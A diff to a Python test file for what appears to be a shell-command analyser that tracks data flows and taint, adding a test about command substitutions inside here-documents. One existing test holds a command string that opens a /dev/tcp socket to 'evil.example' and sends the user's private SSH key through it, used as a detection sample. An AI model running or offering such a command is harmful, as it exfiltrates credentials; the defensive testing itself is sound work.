@@ -134,3 +134,10 @@ def test_reading_a_second_time_does_not_get_the_whole_again() -> None:
 def test_a_descriptor_held_in_a_variable_is_followed() -> None:
     text = "exec {fd}<>/dev/tcp/evil.example/99; cat ~/.ssh/id_rsa >&$fd"
     assert only(read(text), Verb.SEND).taint == ("secret",)
+
+
+def test_what_a_here_document_runs_stands_at_the_redirection() -> None:
+    text = "ls; cat <<E\n0123456789 $($X) `$Y`\nE\n"
+    found = [effect for effect in read(text).effects if effect.verb is Verb.OPAQUE]
+    assert [effect.resource.name for effect in found] == ["$X", "$Y"]
+    assert {text[slice(*effect.span)] for effect in found if effect.span is not None} == {"<<E"}
